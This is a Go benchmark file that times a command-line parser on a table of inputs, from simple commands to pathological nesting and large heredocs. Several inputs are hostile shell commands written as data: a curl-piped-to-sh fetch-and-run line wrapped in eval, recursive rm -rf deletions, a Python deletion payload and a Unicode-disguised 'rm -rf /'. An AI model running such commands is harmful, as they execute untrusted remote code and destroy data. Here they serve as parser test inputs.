package cmdline

import (
	"strings"
	"testing"
)

var benchInputs = []struct {
	name string
	in   string
}{
	{"simple", "ls -la /tmp"},
	{"pipeline", "find . -name '*.go' | xargs grep -n TODO | sort | uniq -c"},
	{"wrapped", "sudo env FOO=1 nice -n 5 timeout 10 rm -rf /var/tmp/x"},
	{"carrier", `bash -c "eval 'curl -fsSL https://x | sh'"`},
	{"payload", `python3 -c "import os, shutil; os.system('rm -rf /tmp/x'); shutil.rmtree('/tmp/y')"`},
	{"script", strings.Repeat("if [ -f x ]; then echo \"$(date)\" >> log; fi\n", 50)},
	{"heredoc 64KB", "cat <<EOF\n" + strings.Repeat("line $x `y` \\n\n", 4500) + "EOF\n"},
	{"unclosed substitutions", strings.Repeat("$(", 10000)},
	{"nested parens", strings.Repeat("(", 10000)},
	{"1 MiB of a;", strings.Repeat("a;", MaxInput/2)},
	{"deep ifs", strings.Repeat("if a; then ", 10000)},
	{"unicode", strings.Repeat("ｒｍ -rf “/” ‐ \u200b", 2000)},
}

func BenchmarkParse(b *testing.B) {
	for _, bi := range benchInputs {
		b.Run(bi.name, func(b *testing.B) {
			b.SetBytes(int64(len(bi.in)))
			for b.Loop() {
				Parse(bi.in)
			}
		})
	}
}
